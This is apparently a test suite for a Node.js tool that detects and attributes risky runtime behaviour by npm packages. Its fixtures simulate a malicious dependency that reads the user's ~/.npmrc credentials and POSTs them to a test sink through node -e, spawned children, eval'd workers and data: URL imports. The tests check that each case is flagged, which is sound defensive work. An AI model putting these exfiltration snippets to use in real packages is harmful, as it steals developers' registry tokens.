import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { test } from 'node:test';
import { diogenesis, makeApp } from '../support/small-app.ts';
import { type FindingLine, VictimApp } from '../support/victim-app.ts';

const HEAD = `
const cp = require('node:child_process'), fs = require('node:fs'), os = require('node:os'), path = require('node:path');
const end = (child) => new Promise((done) => child.on('close', done));
const post = (text) => "const x = " + text + "; const r = require('node:http').request(process.env.SINK, { method: 'POST' }, (s) => s.resume()); r.end(x);";
exports.label = (text) => text;
`;

/** What is told of an application whose package `labels` does this, with everything preloaded. */
async function told(body: string): Promise<{ findings: FindingLine[]; received: readonly string[] }> {
  await using app = await VictimApp.create();
  app.labels('1.0.1', HEAD + body);
  app.write('main.js', "require('labels').act();");
  const { code, stderr } = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
  assert.equal(code, 0, stderr);
  return { findings: app.findings(), received: app.received };
}

const alertsOf = (findings: readonly FindingLine[], name: string) =>
  findings.filter((finding) => finding.level === 'ALERT' && finding.package.name === name);

test('what `node -e` does is the work of the package that started it', async () => {
  const { findings, received } = await told(`
    const secret = "require('node:fs').readFileSync(require('node:path').join(require('node:os').homedir(), '.npmrc'), 'utf8')";
    exports.act = () => cp.execFileSync(process.execPath, ['-e', post(secret)]);`);
  assert.match(received[0] ?? '', /canary/);
  assert.ok(alertsOf(findings, 'labels').some(({ pattern }) => pattern === 'data_exfiltration'));
  assert.deepEqual(
    findings.filter((finding) => finding.package.name === '<app>' && finding.level !== 'LOG'),
    [],
  );
});

test('one process reads, another sends: the package behind both is named', async () => {
  const { findings, received } = await told(`
    exports.act = () => {
      const secret = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
      return end(cp.spawn(process.execPath, ['-e', post('process.env.X')], { env: { ...process.env, X: secret } }));
    };`);
  assert.match(received[0] ?? '', /canary/);
  assert.ok(alertsOf(findings, 'labels').some(({ pattern }) => pattern === 'data_exfiltration'));
});

test('a worker made from text acts for the package that made it', async () => {
  const { findings, received } = await told(`
    const { Worker } = require('node:worker_threads');
    const secret = "require('node:fs').readFileSync(require('node:path').join(require('node:os').homedir(), '.npmrc'), 'utf8')";
    exports.act = () => new Worker(post(secret), { eval: true });`);
  assert.match(received[0] ?? '', /canary/);
  assert.ok(alertsOf(findings, 'labels').length > 0);
});

test('what a worker made from text connects to is told of, and not what a file does that it loads', async () => {
  const texted = async (text: string) => {
    const { findings, received } = await told(`
    const { Worker } = require('node:worker_threads');
    fs.writeFileSync(path.join(__dirname, 'send.js'), post("'x'"));
    exports.act = () => new Worker(${text}, { eval: true });`);
    assert.equal(received.length, 1);
    return findings
      .filter(({ rule }) => rule.name === 'text_code_acts')
      .map(({ level, package: { name } }) => `${level} ${name}`);
  };
  assert.deepEqual(await texted(`post("'x'")`), ['WARN labels']);
  assert.deepEqual(await texted("'require(' + JSON.stringify(path.join(__dirname, 'send.js')) + ')'"), []);
});

const TEXTS: readonly [what: string, start: string][] = [
  ['a worker made from text', 'new Worker(text, { eval: true })'],
  ['a worker made from a data: URL', "new Worker(new URL('data:text/javascript,' + encodeURIComponent(text)))"],
  [
    'a worker made from a data: URL without options of its own',
    "new Worker(new URL('data:text/javascript,' + encodeURIComponent(text)), { execArgv: [], env: {} })",
  ],
  ['`node -e`', "cp.spawnSync(process.execPath, ['-e', text])"],
  ['`node -e` with a module', "cp.spawnSync(process.execPath, ['--input-type=module', '-e', text])"],
  ['an imported data: URL', "import('data:text/javascript,' + encodeURIComponent(text))"],
];
for (const [what, start] of TEXTS) {
  test(`what ${what} imports and does is in the lock as the work of the package behind it`, async () => {
    using app = makeApp();
    app.package(
      'dep',
      '1.0.0',
      `const cp = require('node:child_process'); const { Worker } = require('node:worker_threads');
      const file = __dirname + '/../../home/.npmrc';
      const text = "import('node:fs').then(async (fs) => { try { fs.readFileSync(" + JSON.stringify(file) + ") } catch {}; await import('node:dgram') })";
      module.exports = () => { ${start}; return '1'; };`,
    );
    const { code, stderr } = await diogenesis(app, 'learn', '--', 'node', 'app.js');
    assert.equal(code, 0, stderr);
    const { packages } = JSON.parse(readFileSync(app.path('diogenesis.lock.json'), 'utf8'));
    const { traits } = packages['dep@1.0.0'];
    for (const trait of ['fs.read:<home>/.npmrc [credential]', 'import:node:fs', 'import:node:dgram'])
      assert(traits.includes(trait), `${trait}: ${traits}`);
    const others = ['<app>', '<unattributed>'].flatMap((key): string[] => packages[key]?.traits ?? []);
    // What Node itself does to evaluate a text is nobody's.
    const own = ['code.eval', 'import:node:module'];
    assert.deepEqual(
      others.filter((trait) => !own.includes(trait)),
      [],
    );
  });
}

test('hooks of the loader, in a thread of Node, are loaded and not made from text', async () => {
  using app = makeApp();
  app.package('hooks', '1.0.0', 'exports.initialize = () => {};');
  app.package('helper', '1.0.0', 'exports.hook = true;');
  app.write('node_modules/hooks/hook.mjs', "import './index.js'; import 'helper'; export const initialize = () => {};");
  app.package(
    'dep',
    '1.0.0',
    "require('node:module').register('hooks/hook.mjs', 'file://' + __filename); module.exports = () => '1';",
  );
  const { code, stderr } = await diogenesis(app, 'learn', '--', 'node', 'app.js');
  assert.equal(code, 0, stderr);
  const { packages } = JSON.parse(readFileSync(app.path('diogenesis.lock.json'), 'utf8'));
  assert.deepEqual(packages['dep@1.0.0'].traits, [
    'code.replace:module.load',
    'import:node:module',
    'worker.start:<node_modules>/hooks/hook.mjs',
  ]);
  assert.equal(packages['<unattributed>'], undefined);
});

test('a child of the application stays the application', async () => {
  await using app = await VictimApp.create();
  app.write(
    'main.js',
    "require('node:child_process').execFileSync(process.execPath, ['-e', 'console.log(process.env.DIOGENESIS_LINEAGE)'], { stdio: 'inherit' });",
  );
  const { stdout, stderr } = await app.run(['--require', 'diogenesis-otel/register', 'main.js']);
  assert.equal(stdout, 'undefined\n', stderr);
});
